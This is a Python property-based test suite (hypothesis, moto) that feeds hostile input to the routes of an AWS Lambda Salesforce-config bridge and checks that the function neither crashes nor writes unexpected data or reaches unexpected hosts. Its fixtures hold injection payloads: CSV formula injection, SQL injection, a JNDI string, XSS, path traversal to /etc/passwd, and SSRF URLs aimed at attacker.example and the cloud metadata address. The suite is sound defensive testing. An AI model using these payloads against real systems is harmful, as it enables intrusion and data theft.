"""Hostile and malformed input, property-based (hypothesis), over every route.

Each example is a whole delivery against the moto stack: the event through the handler as its source invokes it,
then (for Salesforce requests) the outcome through the stream to its status file and e-mail. What must hold:

- no crash but the errors a route is designed to raise (an EventBridge route raises so that its event is retried,
  then dead-lettered; those errors are named, and listed per route below);
- a Salesforce event with a usable ``Record_Id__c`` ends in exactly one outcome, one status file and one e-mail,
  whatever else it carries; one without gets none, and nothing at all is written;
- Connect always gets a flat map of strings, and the lookup writes nothing;
- nothing the function sends to AWS is text that AWS cannot take: no lone surrogate anywhere (JSON carries them,
  UTF-8 cannot), no control character in an SNS message attribute or subject;
- no input steers the function elsewhere: objects are read from the deployment's own large-event bucket only, AppFlow
  is called for the deployment's own flows only, custom-resource answers go to Amazon S3 (or the local stand-in) only.

Hypothesis runs derandomized (the same examples on every run, as CI needs); ``RELIABILITY_HYPOTHESIS_SEED=<n>``
explores other inputs, reproducibly.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import os
import re
import urllib.error
import urllib.request
import zoneinfo
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest
from aws_lambda_powertools.utilities.batch.exceptions import BatchProcessingError
from botocore.exceptions import ClientError
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from router.errors import UnroutableEventError
from services.aws.large_event_bucket import LargeEventError
from services.flows.connection import SalesforceConnectionError
from services.flows.health import UnknownFlowError
from services.flows.state import FlowHealthStateError
from services.inbound.request import MalformedEventError
from services.models.config_change import (
    SALESFORCE_ID,
    ConfigChange,
    UnusableRecordIdError,
    parse_config_change,
)
from services.operator import custom_resources
from services.operator.custom_resources import ResponseNotDeliveredError
from services.operator.operations import UnknownOperationError
from services.operator.redrive import RedriveError
from services.platform.timezones import UnknownZoneError, zone, zone_names
from tests.reliability.config_requests import observe, request_key
from tests.reliability.harness import FakeAppFlow, World
from tests.reliability.ledger import SEEDS, tally
from tests.support.lookup_support import ConfigTable, contact_flow_event
from tests.support.sample_events import load_event

EXPLORE = os.environ.get("RELIABILITY_HYPOTHESIS_SEED")


def examples(count: int) -> Callable[[Any], Any]:
    """Derandomized in CI; ``RELIABILITY_HYPOTHESIS_SEED`` picks other examples."""
    profile = settings(
        max_examples=count,
        deadline=None,
        derandomize=EXPLORE is None,
        database=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
            HealthCheck.function_scoped_fixture,  # the fixtures set constant names: nothing to reset per example
        ],
    )

    def apply(test: Any) -> Any:
        test = profile(test)
        return seed(int(EXPLORE))(test) if EXPLORE is not None else test

    return apply


SEEDS["hostile input"] = (
    f"hypothesis seed {EXPLORE}" if EXPLORE else "derandomized (RELIABILITY_HYPOTHESIS_SEED=<n> explores other inputs)"
)

WRITES = {
    "dynamodb.PutItem",
    "dynamodb.TransactWriteItems",
    "dynamodb.UpdateItem",
    "dynamodb.DeleteItem",
    "dynamodb.BatchWriteItem",
    "s3.PutObject",
    "s3.PutObjectTagging",
    "s3.DeleteObjectTagging",
    "sns.Publish",
    "sqs.SendMessage",
    "sqs.DeleteMessage",
    "appflow.StartFlow",
    "appflow.CreateConnectorProfile",
    "appflow.UpdateConnectorProfile",
}
IN_FLOW = "config-bridge-local-config-change-in"
OUT_FLOW = "config-bridge-local-status-out"

# --- hostile values ------------------------------------------------------------------------------------------------

NASTY = [
    "",
    " ",
    "\t",
    "\x00",
    "\x07bell\x1b[31m",
    "line\nbreak\r\n",
    "\u200b",
    "\ufeff",
    "\ufffe\uffff",
    "\ud800",
    "a\udc80b",
    "\U0001f600" * 100,
    "Zürich-Ost",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    'a,"b",c\r\nd,e',
    "'; DROP TABLE config;--",
    "../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "2026-02-30",
    "2026-13-01",
    "0000-01-01",
    "9999-12-31",
    "2026-1-1",
    "\u0662\u0660\u0662\u0666-\u0661\u0662-\u0662\u0665",
    "2026-12-25T00:00",
    "24:00",
    "23:60",
    "7:00",
    "12:00:00",
    "Mars/Olympus",
    "America/New_York ",
    "america/new_york",
    "UTC\x00",
    "Etc/GMT+15",
    "../zoneinfo/UTC",
    "/usr/share/zoneinfo/UTC",
    "Europe/Kyiv",
    "2026-11-27T25:00:00Z",
    "2026-02-30T10:00:00Z",
    "2026-11-27T10:00:00+25:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-23:59",
    "+275760-09-13T00:00:00Z",
    "2026-11-27T10:00:00\ud800",
    "nan",
    "a0B5g00000XyZ12AAB",
    "a0B5g00000XyZ12",
    " a0B5g00000XyZ12AAB ",
    "a0B5g00000XyZ12AA\u0661",
    "x" * 256,
    "x" * 4001,
]
HUGE = st.integers(10_000, 200_000).map(lambda n: "\u00e9" * n)
"""EventBridge takes events up to 256 KB."""


def nested(depth: int, wrap: str) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = [value] if wrap == "list" else {"n": value}
    return value


DEEP = st.builds(nested, st.integers(50, 400), st.sampled_from(["list", "dict"]))
"""Deep nesting within what a Python Lambda runtime can parse (it fails on about 1000 levels, before the function)."""
TEXT = st.one_of(st.sampled_from(NASTY), st.text(max_size=40), HUGE)
SCALAR = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False))
ANY_JSON = st.recursive(
    st.one_of(SCALAR, TEXT),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)),
    max_leaves=12,
)
VALUE = st.one_of(TEXT, TEXT, SCALAR, ANY_JSON, DEEP)


def sometimes(usual: st.SearchStrategy[Any], hostile: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly a usual value (so that examples reach deep into the route), now and then a hostile one."""
    return st.integers(0, 3).flatmap(lambda n: hostile if n == 0 else usual)


FIELDS = [
    "Record_Id__c",
    "Action__c",
    "Config_Type__c",
    "Region__c",
    "Holiday_Date__c",
    "Holiday_Name__c",
    "Start_Time__c",
    "End_Time__c",
    "Setting_Key__c",
    "Setting_Value__c",
    "Requester_Email__c",
    "EventUuid",
    "CreatedDate",
    "CreatedById",
]
BASES = [
    "config-change--holiday-add-christmas",
    "config-change--holiday-add-part-day",
    "config-change--holiday-delete",
    "config-change--setting-add-timezone",
    "config-change--setting-add-emergency-message",
    "config-change--bad-request-fail",
]


@st.composite
def salesforce_detail(draw: st.DrawFn) -> dict[str, Any]:
    """A sample request's fields, each kept, dropped, or replaced by something hostile; extra fields added."""
    detail: dict[str, Any] = dict(load_event(draw(st.sampled_from(BASES)))["detail"])
    for name in FIELDS:
        move = draw(st.sampled_from(["keep", "keep", "keep", "drop", "replace"]))
        if move == "drop":
            detail.pop(name, None)
        elif move == "replace":
            detail[name] = draw(VALUE)
    detail.update(draw(st.dictionaries(st.one_of(st.sampled_from(NASTY), st.text(max_size=8)), VALUE, max_size=3)))
    return detail


@st.composite
def salesforce_event(draw: st.DrawFn) -> tuple[dict[str, Any], bool]:
    """An EventBridge event from the partner bus; True when its envelope was left intact."""
    event: dict[str, Any] = load_event("config-change--holiday-add-christmas")
    event["detail"] = draw(salesforce_detail())
    intact = draw(st.booleans()) or draw(st.booleans())
    if not intact:
        for name in draw(st.lists(st.sampled_from(["id", "time", "detail-type", "detail", "resources", "account"]))):
            if draw(st.booleans()):
                event.pop(name, None)
            else:
                event[name] = draw(VALUE)
    return event, intact


def usable_record_id(detail: Any) -> bool:
    value = detail.get("Record_Id__c") if isinstance(detail, dict) else None
    return isinstance(value, str) and re.fullmatch(SALESFORCE_ID, value.strip()) is not None


# --- what AWS would refuse, seen at the HTTP layer --------------------------------------------------------------------


class Strict:
    """Every request the function sends: the text AWS takes, and only where it should go."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.problems: list[str] = []
        self.read_buckets: set[str] = set()
        self.flows_called: set[str] = set()

    def __call__(self, name: str, request: Any) -> None:
        service = name.split(".")[0]
        body = request.body if isinstance(request.body, bytes | str) else b""
        data = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
        if service in {"dynamodb", "secrets-manager", "sqs", "appflow"} and data:
            try:
                parsed = json.loads(data.decode("utf-8"))
            except UnicodeDecodeError:
                self.problems.append(f"{name}: body is not UTF-8")
                return
            self._walk(name, parsed)
            if name in {"appflow.DescribeFlow", "appflow.StartFlow"}:
                self.flows_called.add(str(parsed.get("flowName")))
        if service == "sns":
            for key, value in parse_qsl(data.decode("ascii"), keep_blank_values=True):
                if ("StringValue" in key or key == "Subject") and re.search(r"[\x00-\x1f\x7f-\x9f]", value):
                    self.problems.append(f"{name}: control character in {key}")
                self._walk(name, value)
        if name == "s3.GetObject":
            url = urlsplit(request.url)
            host = url.hostname or ""
            self.read_buckets.add(host.split(".s3.")[0] if ".s3." in host else url.path.split("/")[1])
        for header, value in request.headers.items():
            if isinstance(value, str) and not value.isascii():
                self.problems.append(f"{name}: header {header} is not ASCII")

    def _walk(self, name: str, value: Any) -> None:
        if isinstance(value, str):
            if re.search("[\ud800-\udfff]", value):
                self.problems.append(f"{name}: a lone surrogate in {value[:40]!r}")
        elif isinstance(value, dict):
            for item in value.values():
                self._walk(name, item)
        elif isinstance(value, list):
            for item in value:
                self._walk(name, item)


def fresh(world: World, appflow: FakeAppFlow | None = None) -> Strict:
    world.reset(appflow)
    strict = Strict(world)
    world.http.inspectors.append(strict)
    return strict


def writes(world: World) -> list[str]:
    return [call for call in world.http.calls if call in WRITES]


def raised(error: BaseException | None, *designed: type[BaseException]) -> None:
    """No error, or one the route is designed to raise (and nothing else)."""
    if error is not None and not isinstance(error, designed):
        raise AssertionError(f"undesigned {type(error).__name__}: {error}") from error


def count(route: str, examples_seen: int = 1, outcomes: int = 0, refused: int = 0) -> None:
    counted = tally(f"hostile input: {route}")
    counted.cases += 1
    counted.deliveries += 1
    counted.requests += examples_seen
    counted.outcomes += outcomes
    counted.refused_by_design += refused


# --- config-change and the status fan-out -----------------------------------------------------------------------------


@pytest.fixture
def deployment(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """The sample events name the local stage's flows: this deployment owns them."""
    monkeypatch.setenv("OWNED_FLOW_NAMES", f"{IN_FLOW},{OUT_FLOW}")
    return world


@examples(150)
@given(case=salesforce_event())
def test_a_salesforce_event_of_any_shape_ends_in_one_outcome_or_is_refused_with_nothing_written(
    world: World, case: tuple[dict[str, Any], bool]
) -> None:
    event, intact = case
    strict = fresh(world)
    invocation = world.lam.sync(copy.deepcopy(event))
    raised(invocation.error, UnroutableEventError, MalformedEventError, UnusableRecordIdError, LargeEventError)
    report = world.stream.drain()

    assert strict.problems == []
    if invocation.error is not None:
        assert writes(world) == [], "a refused event writes nothing"
        assert not (intact and usable_record_id(event.get("detail"))), "a usable Record_Id__c is always answered"
        count("config-change", refused=1)
        return
    key = request_key(event, world)
    assert key is not None
    seen = observe(world, [key]).by_key[key]
    assert (len(seen.outcomes), len(seen.files), len(seen.emails)) == (1, 1, 1), invocation.answer
    assert report.failed_batches == [] and report.partial_retries == 0
    data_items = [i for i in world.items() if i["itemType"]["S"] not in {"OUTCOME", "ANSWERED", "REGION_MARK"}]
    assert len(data_items) == (0 if invocation.answer["result"] == "refused" else 1)
    assert [i["recordId"]["S"] for i in world.items() if i["itemType"]["S"] == "ANSWERED"] == [
        seen.outcomes[0]["recordId"]["S"]
    ]
    rows = list(csv.reader(io.StringIO(world.status_files()[seen.files[0]]["body"].decode(), newline="")))
    assert len(rows) == 2 and all(len(row) == 4 for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    subject = seen.emails[0]["subject"]
    assert len(subject) < 100 and re.fullmatch(r"[\x20-\x7e]+", subject)
    count("config-change", outcomes=1)


OWN = "config-bridge-test-large-events-123456789012"
BUCKETS = [
    OWN,
    OWN.upper(),
    f" {OWN}",
    f"{OWN}/..",
    f"arn:aws:s3:::{OWN}",
    "someone-elses-bucket",
    "config-bridge-test-status-123456789012",
    "",
    "b" * 64,
]
OBJECTS = [
    None,
    b"\xff\xfe\xfd not utf-8",
    b'{"Record_Id__c": "\xff\xfe"}',
    b"[]",
    b'"just text"',
    b"[" * 100_000,
    json.dumps(load_event("config-change--holiday-add-christmas")["detail"]).encode(),
    json.dumps(load_event("config-change--setting-add-timezone")).encode(),
]


@examples(40)
@given(
    bucket=sometimes(st.just(OWN), st.one_of(st.sampled_from(BUCKETS), TEXT, SCALAR)),
    key=sometimes(st.just("events/x.json"), st.one_of(st.sampled_from(["../x.json", "/etc/passwd", "%2e%2e/x"]), TEXT)),
    stored=st.sampled_from(OBJECTS),
    fields=st.one_of(st.none(), salesforce_detail()),
)
def test_a_large_event_pointer_is_followed_into_the_own_bucket_only(
    world: World, bucket: Any, key: Any, stored: bytes | None, fields: dict[str, Any] | None
) -> None:
    strict = fresh(world)
    body = stored if fields is None else json.dumps(fields, ensure_ascii=True).encode()
    if body is not None and isinstance(key, str) and 0 < len(key.encode("utf-8", "replace")) <= 1024:
        with contextlib.suppress(ClientError, ValueError, UnicodeEncodeError):  # a key S3 refuses: points at nothing
            world.s3.put_object(Bucket=OWN, Key=key, Body=body)
    event: dict[str, Any] = load_event("config-change--large-event-pointer")
    event["detail"] = {"s3Bucket": bucket, "s3Key": key}

    invocation = world.lam.sync(event)
    raised(
        invocation.error, UnroutableEventError, MalformedEventError, UnusableRecordIdError, LargeEventError, ClientError
    )
    if isinstance(invocation.error, ClientError):
        assert invocation.error.response["Error"]["Code"] == "NoSuchKey"
    world.stream.drain()

    assert strict.problems == []
    assert strict.read_buckets <= {OWN}, "never a bucket the event names, only the deployment's own"
    if invocation.error is not None or invocation.answer["result"] == "duplicate":
        assert writes(world) == []
    else:
        assert len(world.outcome_items()) == 1 and len(world.status_files()) == 1
    count(
        "config-change (large-event pointer)", outcomes=invocation.error is None, refused=invocation.error is not None
    )


# --- the config-change rules as properties (the model alone: no delivery, no AWS) ---------------------------------

SPACE = st.text(st.sampled_from([" ", "\t", "\n", "\r", "\u00a0", "\u2003", "\u3000"]), max_size=3)


@examples(100)
@given(data=st.data())
def test_surrounding_white_space_never_changes_what_a_request_says(data: st.DataObject) -> None:
    detail = dict(load_event(data.draw(st.sampled_from(BASES)))["detail"])
    padded = {k: data.draw(SPACE) + v + data.draw(SPACE) if isinstance(v, str) else v for k, v in detail.items()}
    assert parse_config_change(padded) == parse_config_change(detail)


ZONES = sorted(zone_names() | zoneinfo.available_timezones())
"""The bundled zones and what the host adds (``localtime``, ...)."""
ODD_ZONES = ["Factory", "posixrules", "localtime", "posix/UTC", "right/UTC", "america/new_york", "leapseconds"]


@examples(150)
@given(
    value=st.one_of(st.sampled_from(NASTY), st.sampled_from(ZONES), st.sampled_from(ODD_ZONES), st.text(max_size=30))
)
def test_a_time_zone_setting_is_accepted_exactly_when_the_lookup_can_load_it(value: str) -> None:
    detail = {**load_event("config-change--setting-add-timezone")["detail"], "Setting_Value__c": value}
    accepted = isinstance(parse_config_change(detail), ConfigChange)
    try:
        zone(value.strip())
        loads = True
    except UnknownZoneError:
        loads = False
    assert accepted == loads


DIGIT = st.one_of(st.sampled_from("0123456789"), st.characters(categories=["Nd"]))
"""A digit of any script; mostly ASCII, so that the others come one at a time in an otherwise good value."""
HHMM = st.tuples(*[DIGIT] * 4).map(lambda d: f"{d[0]}{d[1]}:{d[2]}{d[3]}")
YMD = st.tuples(*[DIGIT] * 8).map(lambda d: "{}{}{}{}-{}{}-{}{}".format(*d))


@examples(150)
@given(day=st.one_of(YMD, st.just("2026-12-25")), start=st.one_of(HHMM, st.just("09:00")), end=HHMM)
def test_an_accepted_date_or_time_is_ascii_digits(day: str, start: str, end: str) -> None:
    detail = {
        **load_event("config-change--holiday-add-christmas")["detail"],
        "Holiday_Date__c": day,
        "Start_Time__c": start,
        "End_Time__c": end,
    }
    change = parse_config_change(detail)
    if isinstance(change, ConfigChange):
        fields = ("Holiday_Date__c", "Start_Time__c", "End_Time__c")
        assert all(change.values[name].isascii() for name in fields)


IMAGE_TEXT = st.one_of(st.sampled_from(NASTY), st.text(max_size=30), st.integers(300, 3000).map(lambda n: "m" * n))


@st.composite
def stream_record(draw: st.DrawFn, sequence: int) -> dict[str, Any]:
    """An outcome item's INSERT, its attributes kept or replaced by hostile ones, or not an outcome at all."""
    image: dict[str, Any] = {
        "PK": {"S": f"REQUEST#uuid:hostile-{sequence}"},
        "SK": {"S": "OUTCOME"},
        "itemType": {"S": "OUTCOME"},
        "requestKey": {"S": f"uuid:hostile-{sequence}"},
        "recordId": {"S": "a0B5g00000XyZ12AAB"},
        "status": {"S": "Success"},
        "message": {"S": "Holiday Christmas Day added for US-East on 2026-12-25"},
        "processedAt": {"S": "2026-11-27T10:00:01Z"},
        "createdDate": {"S": "2026-11-27T10:00:00.000Z"},
        "action": {"S": "Add"},
        "configType": {"S": "Holiday"},
        "region": {"S": "US-East"},
        "subject": {"S": "2026-12-25"},
        "requesterEmail": {"S": "ops.lead@example.com"},
    }
    for name in list(image):
        move = draw(st.sampled_from(["keep", "keep", "keep", "drop", "text", "type"]))
        if move == "drop":
            del image[name]
        elif move == "text":
            image[name] = {"S": draw(IMAGE_TEXT)}
        elif move == "type":
            image[name] = draw(st.one_of(SCALAR, st.just({"N": "1"}), st.just({"BOOL": True}), st.just({})))
    record: dict[str, Any] = {
        "eventID": f"{sequence:032x}",
        "eventName": draw(st.sampled_from(["INSERT", "INSERT", "INSERT", "MODIFY", "REMOVE", "", "INSERT\x00"])),
        "eventVersion": "1.1",
        "eventSource": "aws:dynamodb",
        "awsRegion": "us-east-1",
        "dynamodb": {
            "ApproximateCreationDateTime": 1795773601,
            "Keys": {"PK": {"S": f"REQUEST#{sequence}"}, "SK": {"S": "OUTCOME"}},
            "NewImage": image,
            "SequenceNumber": f"{sequence:021d}",
            "SizeBytes": 512,
            "StreamViewType": "NEW_AND_OLD_IMAGES",
        },
        "eventSourceARN": "arn:aws:dynamodb:us-east-1:123456789012:table/config-bridge-test-config/stream/x",
    }
    if draw(st.integers(0, 9)) == 0:
        record["userIdentity"] = draw(st.one_of(VALUE, st.just({"type": "Service"})))
    return record


@examples(50)
@given(data=st.data())
def test_a_stream_batch_of_any_records_answers_the_failed_ones_and_writes_only_for_real_outcomes(
    world: World, data: st.DataObject
) -> None:
    strict = fresh(world)
    records = [data.draw(stream_record(n)) for n in range(1, data.draw(st.integers(1, 4)) + 1)]
    invocation = world.lam.sync({"Records": records})
    raised(invocation.error, BatchProcessingError)

    assert strict.problems == []
    numbers = {r["dynamodb"]["SequenceNumber"] for r in records}
    if invocation.error is None:
        failed = {failure["itemIdentifier"] for failure in invocation.answer["batchItemFailures"]}
        assert failed <= numbers
    else:
        failed = numbers
    inserts = [r for r in records if r["eventName"] == "INSERT" and r["dynamodb"]["SequenceNumber"] not in failed]
    assert world.http.calls.count("s3.PutObject") <= len(inserts) + world.http.calls.count("s3.HeadObject")
    assert len(world.status_files()) <= len(records) - len(failed)
    for name, stored in world.status_files().items():
        rows = list(csv.reader(io.StringIO(stored["body"].decode(), newline="")))
        assert len(rows) == 2 and all(len(row) == 4 for row in rows), name
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1]), name
    for email in world.emails():
        assert len(email["subject"]) < 100 and re.fullmatch(r"[\x20-\x7e]+", email["subject"]), email["subject"]
    count("status-fanout", len(records), outcomes=len(world.status_files()), refused=len(failed))


# --- connect-lookup --------------------------------------------------------------------------------------------------


@st.composite
def contact_event(draw: st.DrawFn) -> dict[str, Any]:
    parameters: Any = {
        "lookup": draw(sometimes(st.sampled_from(["holiday", "setting"]), st.one_of(st.just("Holiday"), VALUE))),
        "region": draw(sometimes(st.sampled_from(["US-East", "Hostile"]), st.one_of(st.just(""), VALUE))),
        "date": draw(sometimes(st.sampled_from(["2026-12-25", "2028-02-29", ""]), VALUE)),
        "key": draw(sometimes(st.sampled_from(["TimeZone", "EmergencyMessage"]), VALUE)),
    }
    parameters = {k: v for k, v in parameters.items() if draw(st.integers(0, 5))}
    parameters.update(draw(st.dictionaries(st.text(max_size=8), VALUE, max_size=2)))
    if draw(st.integers(0, 7)) == 0:
        parameters = draw(VALUE)
    attributes = draw(sometimes(st.just({}), st.one_of(st.fixed_dictionaries({"region": VALUE}), VALUE)))
    event = contact_flow_event(parameters=parameters, attributes=attributes, queue=draw(st.one_of(SCALAR, VALUE)))
    if draw(st.integers(0, 7)) == 0:
        event["Details"] = draw(VALUE)
    return event


def seed_hostile_region(world: World, zone: str, start: str, end: str) -> None:
    """Data the inbound leg should never write, but a table could hold: the lookup must still answer a flat map."""
    table = ConfigTable(world.dynamodb, world.stack.table_name)
    table.holiday("US-East", "2026-12-25", "Christmas Day")
    table.setting("US-East", "TimeZone", "America/New_York")
    table.setting("Hostile", "TimeZone", zone)
    table.holiday("Hostile", "2026-12-25", "=cmd|' /C calc'!A0", start, end)


@examples(80)
@given(
    event=contact_event(),
    zone=st.one_of(st.sampled_from(["Mars/Olympus", "Etc/GMT+15", "../zoneinfo/UTC", "UTC"]), st.text(max_size=20)),
    window=st.tuples(st.sampled_from(["09:00", "24:00", "", "x"]), st.sampled_from(["17:00", "08:00", "", "25:99"])),
)
def test_connect_always_gets_a_flat_map_of_strings_and_the_lookup_writes_nothing(
    world: World, event: dict[str, Any], zone: str, window: tuple[str, str]
) -> None:
    fresh(world)
    try:
        seed_hostile_region(world, zone, *window)
    except (ClientError, UnicodeEncodeError, ValueError):
        seed_hostile_region(world, "Mars/Olympus", *window)  # a zone DynamoDB itself would not take
    invocation = world.lam.sync(event)

    assert invocation.error is None
    answer = invocation.answer
    assert isinstance(answer, dict) and all(isinstance(k, str) and isinstance(v, str) for k, v in answer.items())
    assert answer["status"] in {"ok", "error"}
    if answer["status"] == "error":
        assert answer["errorCode"] in {"BadRequest", "Unavailable"} and answer["message"]
    assert set(world.http.calls) <= {"dynamodb.BatchGetItem"}
    count("connect-lookup", outcomes=answer["status"] == "ok", refused=answer["status"] == "error")


# --- AppFlow status events, the schedule, custom resources, operators, anything at all -----------------------------


@st.composite
def appflow_event(draw: st.DrawFn) -> dict[str, Any]:
    event: dict[str, Any] = load_event(
        draw(
            st.sampled_from(
                [
                    "flow-health--event-flow-deactivated",
                    "flow-health--execution-failed-transient-error",
                    "flow-health--execution-failed-expired-credentials",
                    "flow-health--successful-run",
                    "flow-health--cloudtrail-start-flow",
                ]
            )
        )
    )
    detail = event["detail"]
    flow_names = [IN_FLOW, OUT_FLOW, f"{IN_FLOW} ", f"../{IN_FLOW}", "someone-elses-flow", IN_FLOW.upper()]
    detail["flow-name"] = draw(st.one_of(st.sampled_from(flow_names), VALUE))
    for name in ("status", "error", "deactivation-reason"):
        if draw(st.booleans()):
            detail[name] = draw(VALUE)
    if draw(st.integers(0, 4)) == 0:
        event["detail-type"] = draw(st.one_of(st.sampled_from(["AppFlow Event Flow Deactivated"]), VALUE))
    if draw(st.integers(0, 6)) == 0:
        event["detail"] = draw(VALUE)
    return event


@examples(50)
@given(event=appflow_event())
def test_an_appflow_event_of_any_shape_heals_only_the_deployments_own_flows(
    deployment: World, event: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    world = deployment
    strict = fresh(world, FakeAppFlow({IN_FLOW: "Suspended", OUT_FLOW: "Active"}))
    invocation = world.lam.sync(event)
    raised(invocation.error, FlowHealthStateError)  # any shape is acknowledged, never refused

    assert strict.problems == []
    assert strict.flows_called <= {IN_FLOW, OUT_FLOW}, "AppFlow is asked about this deployment's flows only"
    if invocation.error is not None:
        assert writes(world) == []
    count("flow-health", outcomes=invocation.error is None, refused=invocation.error is not None)


@examples(25)
@given(
    event=st.builds(
        lambda extra: {**load_event("health-check--scheduled"), **extra},
        st.dictionaries(st.sampled_from(["id", "detail", "resources", "time", "account"]), VALUE, max_size=3),
    )
)
def test_the_schedule_of_any_shape_looks_at_the_deployments_own_flows_only(
    deployment: World, event: dict[str, Any]
) -> None:
    world = deployment
    strict = fresh(world, FakeAppFlow({IN_FLOW: "Active", OUT_FLOW: "Suspended"}))
    invocation = world.lam.sync(event)

    assert invocation.error is None and strict.problems == []
    assert strict.flows_called == {IN_FLOW, OUT_FLOW}
    count("health-check", outcomes=1)


class Outbound:
    """Where the custom-resource route tried to send its answers (nothing leaves this machine)."""

    def __init__(self) -> None:
        self.hosts: list[str] = []

    def urlopen(self, request: urllib.request.Request, timeout: float = 0) -> Any:
        self.hosts.append(urlsplit(request.full_url).hostname or "")
        raise urllib.error.URLError("no network in the hostile-input suite")


@st.composite
def custom_resource_event(draw: st.DrawFn) -> dict[str, Any]:
    event: dict[str, Any] = load_event("custom-resource--refused-salesforce-connection-create")
    event["ResponseURL"] = draw(
        st.one_of(
            st.sampled_from(
                [
                    "https://cloudformation-custom-resource-response-useast1.s3.amazonaws.com/x?sig=1",
                    "https://attacker.example/collect",
                    "https://s3.amazonaws.com.attacker.example/x",
                    "https://amazonaws.com@attacker.example/x",
                    "https://attackers-bucket.s3.amazonaws.com/x",
                    "https://cloudformation-custom-resource-response-useast1.s3.amazonaws.com.attacker.example/x",
                    "http://169.254.169.254/latest/meta-data",
                    "http://127.0.0.1:9/local",
                    "file:///etc/passwd",
                ]
            ),
            TEXT,
        )
    )
    event["RequestType"] = draw(st.sampled_from(["Create", "Update", "Delete"]))
    if draw(st.booleans()):
        event["ResourceProperties"] = draw(
            st.one_of(VALUE, st.fixed_dictionaries({"Resource": VALUE, "FlowNames": VALUE, "FailOnError": VALUE}))
        )
    for name in ("RequestId", "LogicalResourceId", "PhysicalResourceId", "ResourceType"):
        if draw(st.integers(0, 3)) == 0:
            event[name] = draw(VALUE)
    return event


@examples(40)
@given(event=custom_resource_event())
def test_a_custom_resource_request_of_any_shape_answers_only_to_amazon_s3(
    deployment: World, event: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    world = deployment
    strict = fresh(world)
    outbound = Outbound()
    monkeypatch.setattr(custom_resources.urllib.request, "urlopen", outbound.urlopen)
    monkeypatch.setattr(custom_resources.time, "sleep", lambda _: None)
    invocation = world.lam.sync(event)
    raised(invocation.error, ResponseNotDeliveredError, UnroutableEventError)  # unroutable: no ResponseURL at all

    assert strict.problems == []
    cloudformation = ("cloudformation-custom-resource-response-", ".amazonaws.com")
    assert all(
        (h.startswith(cloudformation[0]) and h.endswith(cloudformation[1])) or h == "127.0.0.1" for h in outbound.hosts
    ), outbound.hosts
    count("custom-resource", outcomes=bool(outbound.hosts), refused=not outbound.hosts)


@examples(40)
@given(
    event=st.one_of(
        st.fixed_dictionaries(
            {
                "operation": st.sampled_from(
                    [
                        "describe",
                        "check-flows",
                        "activate-flows",
                        "redrive-inbound",
                        "redrive-stream-failures",
                        "connect-salesforce",
                    ]
                )
            },
            optional={"flows": VALUE, "max": VALUE},
        ),
        st.fixed_dictionaries({"operation": st.one_of(TEXT, st.sampled_from(["DESCRIBE", "describe\x00"]))}),
    )
)
def test_an_operator_request_of_any_shape_is_answered_or_refused_by_name(
    deployment: World, event: dict[str, Any]
) -> None:
    world = deployment
    strict = fresh(world, FakeAppFlow({IN_FLOW: "Active", OUT_FLOW: "Active"}))
    invocation = world.lam.sync(event)
    raised(
        invocation.error,
        UnknownOperationError,
        UnknownFlowError,
        RedriveError,
        SalesforceConnectionError,
        UnroutableEventError,
    )

    assert strict.problems == []
    assert strict.flows_called <= {IN_FLOW, OUT_FLOW}
    if invocation.error is not None:
        assert writes(world) == []
    count("operator", outcomes=invocation.error is None, refused=invocation.error is not None)


@examples(60)
@given(
    event=st.one_of(
        ANY_JSON,
        DEEP,
        st.dictionaries(
            st.sampled_from(["source", "detail-type", "Records", "Name", "RequestType", "operation", "detail"]),
            VALUE,
            max_size=4,
        ),
    )
)
def test_any_event_at_all_is_routed_or_refused_by_name_and_an_unroutable_one_touches_nothing(
    deployment: World, event: Any
) -> None:
    world = deployment
    strict = fresh(world, FakeAppFlow({IN_FLOW: "Active", OUT_FLOW: "Active"}))
    invocation = world.lam.sync(event)
    raised(
        invocation.error,
        UnroutableEventError,
        MalformedEventError,
        UnusableRecordIdError,
        LargeEventError,
        ValidationError,
        BatchProcessingError,
        ResponseNotDeliveredError,
        UnknownOperationError,
        UnknownFlowError,
        RedriveError,
        SalesforceConnectionError,
    )

    assert strict.problems == []
    if isinstance(invocation.error, UnroutableEventError):
        assert world.http.calls == []
    count("any event", outcomes=invocation.error is None, refused=invocation.error is not None)
